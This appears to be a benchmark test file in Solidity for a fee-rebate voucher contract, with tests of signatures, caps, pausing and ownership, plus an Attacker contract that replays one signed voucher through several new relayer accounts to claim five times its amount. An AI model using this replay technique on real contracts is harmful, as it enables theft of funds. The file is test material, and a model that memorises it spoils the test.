// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FeeRebates.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-2dc9689a-d11b-4d0a-9884-0e9ad0bec904

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Token is ERC20 {
    address private maker = msg.sender;
    bool private off;

    constructor() ERC20("Token", "TKN") {}

    function turn(bool off_) external {
        require(msg.sender == maker, "maker only");
        off = off_;
    }

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }

    /// While it is off, it answers no.
    function transfer(address to, uint256 amount) public override returns (bool) {
        return !off && super.transfer(to, amount);
    }
}

/// Submits vouchers of others, as anyone may.
contract Relayer {
    function submit(FeeRebates rebates, FeeRebates.Voucher calldata voucher, bytes calldata signature) external {
        rebates.claim(voucher, signature);
    }

    function cancel(FeeRebates rebates, uint256 nonce) external {
        rebates.cancel(nonce);
    }
}

/// A trader with a single voucher, who submits it from several accounts.
contract Attacker {
    function run(FeeRebates rebates, FeeRebates.Voucher calldata voucher, bytes calldata signature) external {
        rebates.claim(voucher, signature);
        for (uint256 i = 0; i < 7; i++) {
            Relayer another = new Relayer();
            try another.submit(rebates, voucher, signature) {} catch {}
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant SIGNER_KEY = 0x5eaf00d;

    Token public token;
    FeeRebates private rebates;
    Relayer private relayer;
    Relayer private ana;
    Attacker private mallory;

    FeeRebates.Voucher private anaVoucher;
    FeeRebates.Voucher private joVoucher;
    FeeRebates.Voucher private lostVoucher;
    FeeRebates.Voucher private ownVoucher;
    bytes private anaSignature;
    bytes private joSignature;
    bytes private lostSignature;
    bytes private ownSignature;

    function setUp() public {
        token = new Token();
        rebates = new FeeRebates(token, vm.addr(SIGNER_KEY), 1000e18);
        token.mint(address(rebates), 5000e18);
        relayer = new Relayer();
        ana = new Relayer();
        mallory = new Attacker();

        anaVoucher = FeeRebates.Voucher(address(ana), 40e18, 7, block.timestamp + 30 days);
        joVoucher = FeeRebates.Voucher(address(0x10), 60e18, 300, block.timestamp + 30 days);
        ownVoucher = FeeRebates.Voucher(address(mallory), 100e18, 1, block.timestamp + 30 days);
        lostVoucher = FeeRebates.Voucher(address(ana), 5e18, 9, block.timestamp + 30 days);
        anaSignature = _signed(anaVoucher);
        lostSignature = _signed(lostVoucher);
        joSignature = _signed(joVoucher);
        ownSignature = _signed(ownVoucher);
    }

    function test_Regular() public {
        FeeRebates.Voucher[] memory vouchers = new FeeRebates.Voucher[](2);
        bytes[] memory signatures = new bytes[](2);
        (vouchers[0], vouchers[1]) = (anaVoucher, joVoucher);
        (signatures[0], signatures[1]) = (anaSignature, joSignature);
        rebates.claimMany(vouchers, signatures);
        require(token.balanceOf(address(ana)) == 40e18, "ana is paid");
        require(token.balanceOf(address(0x10)) == 60e18, "jo is paid");
        require(rebates.paid(block.timestamp / 1 days) == 100e18, "day total");

        // the same batch again
        (bool twice, ) = address(rebates).call(abi.encodeCall(FeeRebates.claimMany, (vouchers, signatures)));
        require(!twice, "batch paid twice");

        // another amount than the signed one
        FeeRebates.Voucher memory raised = ownVoucher;
        raised.amount += 1;
        (bool forged, ) = address(rebates).call(abi.encodeCall(FeeRebates.claim, (raised, ownSignature)));
        require(!forged, "changed voucher paid");

        // a nonce cancelled by the trader who submits it
        ana.cancel(rebates, 9);
        (bool revived, ) = address(ana).call(abi.encodeCall(Relayer.submit, (rebates, lostVoucher, lostSignature)));
        require(!revived, "cancelled nonce was paid");

        // the daily cap
        rebates.setCap(150e18);
        (bool over, ) = address(relayer).call(abi.encodeCall(Relayer.submit, (rebates, ownVoucher, ownSignature)));
        require(!over, "cap passed");
        rebates.setCap(200e18);
        relayer.submit(rebates, ownVoucher, ownSignature);
        require(token.balanceOf(address(mallory)) == 100e18, "paid through a relayer");

        rebates.pause();
        require(rebates.paused(), "paused");
        rebates.setSigner(address(0x155));
        require(rebates.signer() == address(0x155), "another signer");
        rebates.unpause();
        require(rebates.used(address(ana), 9) && rebates.room() == 0, "views");
        rebates.transferOwnership(address(this));
        rebates.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The owner alone changes the terms.
    function test_RefusesStrangers() public {
        refuses(address(ana), abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(ana)));
        rebates.setSigner(address(ana));
        refuses(address(ana), abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(ana)));
        rebates.setCap(1);
        refuses(address(ana), abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(ana)));
        rebates.pause();
        refuses(address(ana), abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(ana)));
        rebates.unpause();
    }

    /// Vouchers in time, signed in the one way, and as many as signatures.
    function test_RefusesVouchers() public {
        FeeRebates.Voucher memory late = FeeRebates.Voucher(address(ana), 1, 3, block.timestamp - 1);
        bytes memory signature = _signed(late);
        refuses(address(ana), FeeRebates.Expired.selector);
        rebates.claim(late, signature);
        vm.expectRevert(FeeRebates.Mismatch.selector);
        rebates.claimMany(new FeeRebates.Voucher[](0), new bytes[](1));
        FeeRebates.Voucher memory mine = anaVoucher;
        signature = abi.encodePacked(anaSignature, uint8(0));
        refuses(address(ana), abi.encodeWithSelector(ECDSA.ECDSAInvalidSignatureLength.selector, 66));
        rebates.claim(mine, signature);
        (bytes32 r, bytes32 s, uint8 v) = _parts(anaSignature);
        uint256 order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
        signature = abi.encodePacked(r, bytes32(order - uint256(s)), v == 27 ? uint8(28) : uint8(27));
        refuses(address(ana), abi.encodeWithSelector(ECDSA.ECDSAInvalidSignatureS.selector, bytes32(order - uint256(s))));
        rebates.claim(mine, signature);
        rebates.setSigner(address(0));
        signature = abi.encodePacked(r, s, uint8(1));
        refuses(address(ana), ECDSA.ECDSAInvalidSignature.selector);
        rebates.claim(mine, signature);
        rebates.setSigner(address(0x155));
        signature = anaSignature;
        refuses(address(ana), FeeRebates.BadSigner.selector);
        rebates.claim(mine, signature);
        rebates.setSigner(vm.addr(SIGNER_KEY));
        rebates.setCap(40e18 - 1);
        refuses(address(ana), FeeRebates.OverCap.selector);
        rebates.claim(mine, signature);
        rebates.setCap(100e18);
        vm.prank(address(ana));
        rebates.claim(mine, signature);
        refuses(address(ana), FeeRebates.Used.selector);
        rebates.claim(mine, signature);
    }

    function _parts(bytes memory signature) private pure returns (bytes32 r, bytes32 s, uint8 v) {
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
            v := byte(0, mload(add(signature, 96)))
        }
    }

    /// Nothing is paid while the contract is paused, or where the token says no.
    function test_RefusesWhilePaused() public {
        FeeRebates.Voucher memory mine = anaVoucher;
        bytes memory signature = anaSignature;
        token.turn(true);
        refuses(address(ana), abi.encodeWithSelector(SafeERC20.SafeERC20FailedOperation.selector, address(token)));
        rebates.claim(mine, signature);
        rebates.pause();
        refuses(address(ana), Pausable.EnforcedPause.selector);
        rebates.claim(mine, signature);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        rebates.claimMany(new FeeRebates.Voucher[](0), new bytes[](0));
    }

    function exploit() public {
        mallory.run(rebates, ownVoucher, ownSignature);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(mallory));
        exploit();
        require(token.balanceOf(address(mallory)) - before >= 500e18, "paid no more than the voucher");
    }

    function _signed(FeeRebates.Voucher memory voucher) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(SIGNER_KEY, rebates.digest(voucher));
        return abi.encodePacked(r, s, v);
    }

    function target() public view returns (address) {
        return address(rebates);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
